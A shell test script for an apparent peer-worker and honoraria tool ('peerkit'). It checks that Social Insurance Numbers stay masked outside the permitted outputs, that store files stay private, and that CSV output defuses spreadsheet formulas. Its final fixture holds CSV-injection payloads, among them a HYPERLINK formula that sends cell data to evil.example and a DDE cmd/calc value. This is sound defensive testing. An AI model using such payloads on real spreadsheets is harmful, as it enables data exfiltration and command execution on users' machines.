#!/bin/sh
# Privacy: a full run with known SINs, every output of every command
# kept and searched.  A SIN appears in full only where it must: with
# --reveal-sin and in the CRA XML.  Never in a table, JSON, CSV, receipt,
# message or the audit trail, nor in the store: its files (on
# PostgreSQL, the database's on the server) and a backup.  The store,
# its directory and its -wal and -shm files are private under any umask,
# and CSV cells a spreadsheet would run as formulas are guarded in every
# tool's CSV.
. "$(dirname "$0")/lib.sh"

umask 000
cp "$top/share/peerkit/examples/demo-config.yaml" "$tmp/config.yaml"
export PEERKIT_CONFIG="$tmp/config.yaml"
on_pg || export PEERKIT_DB="$tmp/private/store/peerkit.db"
mkdir -p "$tmp/o"
n=0
# keep STATUS CMD...: run CMD, which must exit STATUS (a test), and keep
# its stdout and stderr for the search at the end.  A command that failed
# unseen would leave nothing to search, and so pass it.
keep() {
	k_want=$1
	shift
	n=$((n + 1))
	"$@" >"$tmp/o/$n.out" 2>"$tmp/o/$n.err"
	k_st=$?
	echo "$*" >"$tmp/o/$n.cmd"
	[ "$k_st" = "$k_want" ]
	t_result $? "$(t_oneline "$*") (exit $k_want)"
	if [ "$k_st" != "$k_want" ]; then
		echo "#   exit status $k_st; stderr:"
		sed 's/^/#   /' "$tmp/o/$n.err" | head -n 20
	fi
}
# Five SINs: on the command line, on stdin, two in a batch (one SIN is
# one peer's), and one that a merge moves from one record to another.
sin_a=130692544 sin_b=527194831 sin_c=719236457 sin_d=618345722 sin_e=193456787

# The keys first: making them on first use says so on stderr.
ok_cmd peerkit-keys --make
keep 0 peer-add --alias Kestrel --surname Smith --given-name Alex \
    --address-line1 "12 Lake Rd" --city Kelowna --province BC \
    --postal-code "V1Y 1A1" --sin "130 692 544" --role peer-coordinator
check "peer-add --sin VALUE: a warning that others can see it" grep -q \
    '^peer-add: --sin: a SIN on the command line can be seen by other users' \
    "$tmp/o/$n.err"
check "peer-add --sin VALUE: nothing else on stderr" test "$(wc -l <"$tmp/o/$n.err")" = 1
if ! on_pg; then
	check "the store's directory is 0700 under umask 000" test \
	    "$(stat -c %a "$tmp/private/store")" = 700
	check "the store is 0600 under umask 000" test "$(stat -c %a "$PEERKIT_DB")" = 600
fi
# (not through a pipe: keep would run in a subshell, its count lost)
printf '%s\n' "$sin_b" >"$tmp/sin_b"
keep 0 peer-add --alias Wren --sin - --json <"$tmp/sin_b"
printf '{"alias": "Sage", "sin": "%s", "surname": "Lee"}\n{"alias": "Moss", "sin": "%s"}\n' \
    "$sin_c" "$sin_d" >"$tmp/batch.jsonl"
keep 0 peer-add --format csv "$tmp/batch.jsonl"
# The batch again, as a dry run: records without a uuid would be new
# peers, and a SIN is one person's: refused, naming the peer that holds
# it, the SIN masked.
keep 65 peer-add --dry-run --format json "$tmp/batch.jsonl"
check "a SIN another peer holds is refused, masked" grep -q \
    '^peer-add: .*batch.jsonl:1: field "sin": \*\*\*-\*\*\*-457 is already the SIN of peer 3 (Sage): one person has one record' \
    "$tmp/o/$n.err"
# And with a bad SIN too.
printf '{"alias": "Bad", "sin": "130692545"}\n' >>"$tmp/batch.jsonl"
keep 65 peer-add --dry-run --keep-going --json "$tmp/batch.jsonl"
check "the bad SIN is rejected, and the SINs already held" \
    grep -q ': 0 added, 0 updated, 0 unchanged, 3 rejected$' "$tmp/o/$n.err"
keep 0 peer-add --update Kestrel --sin "130-692-544"
keep 65 peer-add --update Kestrel --sin 130692545
mistyped=$n
keep 65 peer-add --update Kestrel --sin "***-***-999"
check "a masked SIN is refused as one" grep -q 'masked SIN' "$tmp/o/$n.err"
keep 0 peer-add --update Sage --sin "$sin_c" --notes "SIN checked" --json
keep 0 peer-add --update Wren --sin 000000000
keep 0 peer-add --update Wren --sin "$sin_b"
keep 0 peer-add --deactivate Moss
keep 0 peer-add --reactivate Moss
for f in table json jsonl csv; do
	keep 0 peer-list --format $f
	keep 0 peer-list --format $f Kestrel
done
keep 0 peer-list --search Smith --json
# Work and pay, so there is a T4A to file.
keep 0 engage-log --peer Kestrel --hours 8 --activity consultation --level collaborate \
    --date 2026-03-02 --json
keep 0 engage-log --peer Kestrel --hours 7 --activity consultation --level empower \
    --date 2026-04-06 --format csv
keep 0 honorarium-pay --run --period 2026 --json
keep 0 honorarium-pay --peer Sage --amount 40.00 --date 2026-05-01 --format csv
keep 0 honorarium-pay --peer Wren --amount 25.00 --kind reimbursement --category transit
keep 0 honorarium-pay --receipt 1
keep 0 honorarium-pay --receipt 1 --format html
keep 0 honorarium-pay --list --format csv
keep 0 honorarium-pay --totals --year 2026 --json
keep 0 engage-log --list --period 2026 --format json
keep 0 engage-log --summary --period 2026 --by peer --format csv
for f in table json csv; do
	keep 0 t4a-report --year 2026 --all --format $f
done
keep 0 t4a-report --year 2026 --check
keep 0 t4a-report --year 2026 --slips
# Statements are text only: a usage error, with nothing to search.
run t4a-report --year 2026 --slips --json
is_rc 64 "t4a-report --slips --json: statements are text only"
keep 0 onboard-check --done orientation Kestrel
# onboard-check answers "no" (1) while items are due.
keep 1 onboard-check Kestrel --json
keep 1 onboard-check --all --format csv
keep 65 peer-add --alias Kestrel --sin "$sin_a"
check "Kestrel's SIN on another record is refused, masked" grep -q \
    '^peer-add: field "sin": \*\*\*-\*\*\*-544 is already the SIN of peer 1 (Kestrel)' "$tmp/o/$n.err"
# One person with two records: the merge carries the SIN to the one kept.
keep 0 peer-add --alias Fern --sin "$sin_e" --json
keep 0 peer-add --alias "Fern Lee" --surname Lee
keep 0 peer-add --merge Fern --into "Fern Lee" --json
keep 0 peer-list --format csv "Fern Lee"
# The merge is audited as one, on each record: Fern's SIN going, masked,
# and Fern Lee's coming; no update of Fern Lee beside it.
check "the merge, on the record merged: its SIN gone" test "$(peer-list \
    --history Fern --json 2>/dev/null | jq -c 'select(.action == "merge") |
    .changes | map(select(.field == "sin"))')" = \
    '[{"field":"sin","before":"***-***-787","after":null}]'
check "the merge, on the record kept: the SIN taken, no update beside it" \
    test "$(peer-list --history "Fern Lee" --json 2>/dev/null | jq -sc \
    'map(select(.action != "create") | [.action, (.changes | map(.field))])')" = \
    '[["merge",["sin"]]]'
# The exceptions, kept apart: they must hold the SINs.
ok_cmd -o "$tmp/reveal.out" peer-list --reveal-sin --json
ok_cmd -o "$tmp/t4a.xml" t4a-report --year 2026 --format xml
ok_cmd -o "$tmp/audit.txt" sql "SELECT * FROM audit"

check "$n commands run" test "$n" -ge 40
check "--reveal-sin shows the SINs (the search below can see them)" \
    grep -q "$sin_a" "$tmp/reveal.out"
check "the T4A XML carries the SIN the CRA needs" grep -q "<sin>$sin_a</sin>" "$tmp/t4a.xml"
check "the store holds the SINs sealed: no plain column, a key and a box" test \
    "$(sql "SELECT alias || ':' || substr(sin_key, 1, 3) FROM peers
    WHERE sin IS NULL AND length(sin_box) = 81 ORDER BY id" | paste -sd ' ')" = \
    "Kestrel:544 Wren:831 Sage:457 Moss:722 Fern Lee:787"
# The store's files (its WAL, if a writer holds it; on PostgreSQL the
# database's files on the server) and a backup (the sqlite3 shell's
# .backup, pg_dump) are searched too: no SIN in any.
store_backup "$tmp/backup.db"
store_files
for s in $sin_a $sin_b $sin_c $sin_d $sin_e; do
	# The digits whole, spaced or dashed, or the six that the mask hides.
	d=$(echo $s | cut -c1-3) e=$(echo $s | cut -c4-6) f=$(echo $s | cut -c7-9)
	re="$s|$d[ -]?$e[ -]?$f|$d$e"
	check "the search can see SIN ...$f where it must be" grep -Eq "$re" "$tmp/reveal.out"
	# grep: 1 is "no match", the passing case; 2, an error, fails.
	run grep -raEl "$re" "$tmp"/o/*.out "$tmp"/o/*.err "$tmp/audit.txt" \
	    "$tmp/backup.db" $store_files
	is_rc 1 "SIN ...$f: searched, not found"
	is_out /dev/null "SIN ...$f appears in no output, message, audit record, store file or backup"
done
check "the masked SIN is shown instead" grep -q '\*\*\*-\*\*\*-544' "$tmp/o/1.out"
check "the audit trail records the change of SIN, masked" grep -q '\*\*\*-\*\*\*-831' "$tmp/audit.txt"
check "a mistyped SIN is refused" grep -q "check digit is wrong" "$tmp/o/$mistyped.err"

# -wal and -shm, while a writer has the store open: peer-add reading a
# batch from a fifo sits inside its transaction until the fifo closes.
# (The files of a store on a file: PostgreSQL's are the server's.)
if ! on_pg; then
	mkfifo "$tmp/fifo"
	peer-add -q - <"$tmp/fifo" >/dev/null 2>"$tmp/fifo.err" &
	writer=$!
	exec 3>"$tmp/fifo"
	echo '{"alias": "Holder", "sin": "271846396"}' >&3
	i=0
	while [ ! -e "$PEERKIT_DB-wal" ] && [ "$i" -lt 200 ]; do
		i=$((i + 1))
		sleep 0.05
	done
	check "the -wal file is 0600 under umask 000" test "$(stat -c %a "$PEERKIT_DB-wal")" = 600
	check "the -shm file is 0600 under umask 000" test "$(stat -c %a "$PEERKIT_DB-shm")" = 600
	exec 3>&-
	wait "$writer"
	check "the writer then commits" test $? = 0
	# ls in the C locale: the "total" line is translated in others.
	run env LC_ALL=C ls -l "$tmp/private/store"
	is_rc 0 "the store's directory is listed"
	cp "$tmp/out" "$tmp/listing"
	check "the listing shows the store" grep -q ' peerkit\.db$' "$tmp/listing"
	# grep -v: 1 is "every line is private", the passing case.
	run grep -v -e '^total' -e '^-rw------- ' "$tmp/listing"
	is_rc 1 "the listing is searched"
	is_out /dev/null "nothing in the store's directory is readable by others"
fi

# CSV: cells a spreadsheet would run as formulas are text, in every tool.
cat >"$tmp/formulas.jsonl" <<'EOF'
{"alias": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "surname": "=1+1"}
{"alias": "+SUM(1+1)", "city": "+1+1"}
{"alias": "-2+3+cmd|' /C calc'!A0"}
{"alias": "@SUM(1+1)"}
EOF
ok_cmd peer-add -q "$tmp/formulas.jsonl"
# The same shapes under new aliases, for peer-add's own CSV (the ones on
# record would be refused: an alias is one peer's).
sed 's/A1/A2/; s/1+1)"/2+2)"/; s/-2+3/-3+3/' "$tmp/formulas.jsonl" >"$tmp/formulas-new.jsonl"
ok_cmd -o "$tmp/peers.jsonl" peer-list --json
for a in "=HYPERLINK" "+SUM" "-2+3" "@SUM"; do
	id=$(jq -r --arg a "$a" 'select(.alias | startswith($a)) | .id' "$tmp/peers.jsonl")
	ok_cmd engage-log -q --peer "$id" --hours 1 --activity meeting \
	    --level consult --date 2026-11-20
done
ok_cmd honorarium-pay -q --run --period 2026-11
# A cell that starts a formula: = + @ anywhere, - unless a plain number.
formula='(^|,)"?([=+@]|-[^0-9]|-[0-9.]*[^0-9.,"])'
# STATUS CMD: onboard-check --all answers "no" (1) while items are due.
ncsv=0
for spec in "0 peer-list --format csv" "0 peer-add --dry-run --format csv $tmp/formulas-new.jsonl" \
    "0 engage-log --list --format csv" "0 engage-log --summary --period 2026 --by peer --format csv" \
    "0 honorarium-pay --list --format csv" "0 honorarium-pay --totals --year 2026 --format csv" \
    "0 t4a-report --year 2026 --all --format csv" "1 onboard-check --all --format csv"; do
	ncsv=$((ncsv + 1))
	cmd=${spec#* }
	run $cmd
	is_rc "${spec%% *}" "$cmd"
	cp "$tmp/out" "$tmp/csv"
	check "$cmd: the formula aliases are there" grep -q "'=HYPERLINK" "$tmp/csv"
	# (grep reads a copy: run empties $tmp/out before its command runs.)
	run grep -E "$formula" "$tmp/csv"
	is_rc 1 "$cmd: searched for formulas, none found"
	is_out /dev/null "$cmd: no cell starts a formula"
done
check "the CSV of every tool ($ncsv)" test "$ncsv" = 8
done_testing
